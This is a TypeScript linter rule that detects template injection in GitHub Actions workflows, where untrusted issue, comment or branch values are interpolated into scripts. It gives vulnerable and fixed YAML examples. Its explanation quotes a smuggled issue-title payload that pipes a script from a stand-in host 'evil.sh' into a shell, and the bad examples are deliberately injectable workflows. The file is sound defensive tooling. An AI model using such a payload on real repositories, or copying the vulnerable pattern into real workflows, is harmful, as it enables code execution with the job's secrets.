import {
  codeExpressions,
  fix,
  moveToVariable,
  type Severity,
  severity,
  type UntrustedRead,
  untrustedReads,
  type WorkflowFile,
  workflowRule,
  yaml,
} from '#core';

/** Events that anyone can cause, and whose runs hold secrets and a token that may write. */
const PRIVILEGED = new Set([
  'pull_request_target',
  'issues',
  'issue_comment',
  'discussion',
  'discussion_comment',
  'workflow_run',
  'gollum',
  'fork',
  'watch',
]);

export default workflowRule({
  title: 'Untrusted input is run as code',
  category: 'security',
  severity: 'high',
  profile: 'recommended',
  why: 'GitHub puts the value into the script before the shell runs it. An issue with the title `a"; curl evil.sh | sh; "` runs that command, with the secrets of the job.',
  equivalents: [
    'actionlint:expression',
    'zizmor:template-injection',
    'checkov:CKV_GHA_2',
    'poutine:injection',
    'kics:run_block_injection',
    'kics:script_block_injection',
  ],

  visit: {
    file(file, report) {
      for (const { expression, input } of codeExpressions(file)) {
        if (expression.errors.length > 0) continue;
        const reads = untrustedReads(expression.ast, expression).filter((read) => read.grade !== 'writer');
        const read = reads.find((one) => one.grade === 'arbitrary') ?? reads[0];
        if (!read) continue;
        const name = `\`${read.through ? read.source : expression.written(read.reference.node)}\``;
        const where = input.name === 'run' ? 'the script' : `the code in \`${input.name}\``;
        report(
          expression.span,
          read.through
            ? `\`${read.through.name}\` holds ${name}, which anyone can write, and becomes part of ${where}.`
            : `Anyone can write ${name}, and it becomes part of ${where}.`,
          severity(severityOf(read, file)),
          fix('unsafe', 'Pass it through an environment variable', () => moveToVariable(expression, input)),
        );
      }
    },
  },

  fixSafety:
    'The value is now one argument, also when it is empty or has spaces. Do not use the fix where the value is meant to be several arguments or code.',

  examples: [
    {
      bad: yaml`
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - name: Greet
                run: |
                  # says hello
                  echo "New: \${{ github.event.issue.title }}!"
                             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
                  ./greet \${{ github.event.issue.title }}
                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
      `,
      good: yaml`
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - name: Greet
                env:
                  ISSUE_TITLE: \${{ github.event.issue.title }}
                run: |
                  # says hello
                  echo "New: $ISSUE_TITLE!"
                  ./greet "$ISSUE_TITLE"
      `,
    },
    {
      title: 'Into the environment that is there',
      bad: yaml`
        on: pull_request_target
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: ./greet "\${{ github.event.pull_request.body }}" \${{ github.head_ref }}
                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.pull_request.body\`, and it becomes part of the script.
                                                                     ^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.head_ref\`, and it becomes part of the script.
                env: { LANGUAGE: de }
      `,
      good: yaml`
        on: pull_request_target
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: ./greet "$PULL_REQUEST_BODY" \${{ github.head_ref }}
                env: { LANGUAGE: de, PULL_REQUEST_BODY: "\${{ github.event.pull_request.body }}" }
      `,
    },
    {
      title: 'A default variable',
      bad: yaml`
        on: pull_request
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: git switch \${{ github.head_ref }}
                                ^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.head_ref\`, and it becomes part of the script.
      `,
      good: yaml`
        on: pull_request
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: git switch "$GITHUB_HEAD_REF"
      `,
    },
    {
      title: 'A variable that holds it already',
      bad: yaml`
        on: issue_comment
        env:
          COMMENT: \${{ github.event.comment.body }}
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo "\${{ github.event.comment.body }}" "\${{ env.COMMENT }}"
                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.comment.body\`, and it becomes part of the script.
                                                              ^^^^^^^^^^^^^^^^^^ \`COMMENT\` holds \`github.event.comment.body\`, which anyone can write, and becomes part of the script.
      `,
      good: yaml`
        on: issue_comment
        env:
          COMMENT: \${{ github.event.comment.body }}
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo "$COMMENT" "\${{ env.COMMENT }}"
      `,
    },
    {
      title: 'PowerShell',
      bad: yaml`
        on: issues
        jobs:
          greet:
            runs-on: windows-2025
            steps:
              - run: Write-Output "New \${{ github.event.issue.title }}" # here
                                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
      `,
      good: yaml`
        on: issues
        jobs:
          greet:
            runs-on: windows-2025
            steps:
              - run: Write-Output "New \${env:ISSUE_TITLE}" # here
                env:
                  ISSUE_TITLE: \${{ github.event.issue.title }}
      `,
    },
    {
      title: 'A script for github-script',
      bad: yaml`
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - uses: actions/github-script@v9
                with:
                  script: |
                    core.info(\`New: \${{ github.event.issue.title }}\`);
                                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the code in \`script\`.
      `,
      good: yaml`
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - uses: actions/github-script@v9
                with:
                  script: |
                    core.info(\`New: \${process.env.ISSUE_TITLE}\`);
                env:
                  ISSUE_TITLE: \${{ github.event.issue.title }}
      `,
    },
    {
      title: 'Where a variable would not be expanded, there is no fix',
      bad: yaml`
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-24.04
            steps:
              - run: echo '\${{ github.event.issue.title }}'
                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
              - run: print("\${{ github.event.issue.title }}")
                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
                shell: python
      `,
    },
  ],

  valid: [
    yaml`
      on: [issues, pull_request]
      jobs:
        greet:
          runs-on: ubuntu-24.04
          steps:
            - run: echo "\${{ contains(github.event.issue.title, 'x') }} \${{ github.event.issue.number }} $TITLE"
              env:
                TITLE: \${{ github.event.issue.title }}
            - run: echo "\${{ github.event.pull_request.head.repo.fork && 'fork' || 'own' }} \${{ github.event.comment.body }}"
            - uses: some/action@3d3c42e5aac5ba805825da76410c181273ba90b1
              with:
                title: \${{ github.event.issue.title }}
    `,
  ],
});

function severityOf(read: UntrustedRead, file: WorkflowFile): Severity {
  if (read.grade === 'structured') return 'medium';
  // Names of branches hold no blanks, which makes an attack harder, not impossible.
  const isBranch = /(?:\.ref|_ref|\.label|_branch)$/.test(read.source);
  if (file.triggers.some((trigger) => PRIVILEGED.has(trigger.name))) return isBranch ? 'high' : 'critical';
  // A fork's run has no secrets, and its author may change the script anyway.
  return file.triggers.length > 0 && file.triggers.every((trigger) => trigger.name === 'pull_request') ? 'medium' : 'high';
}
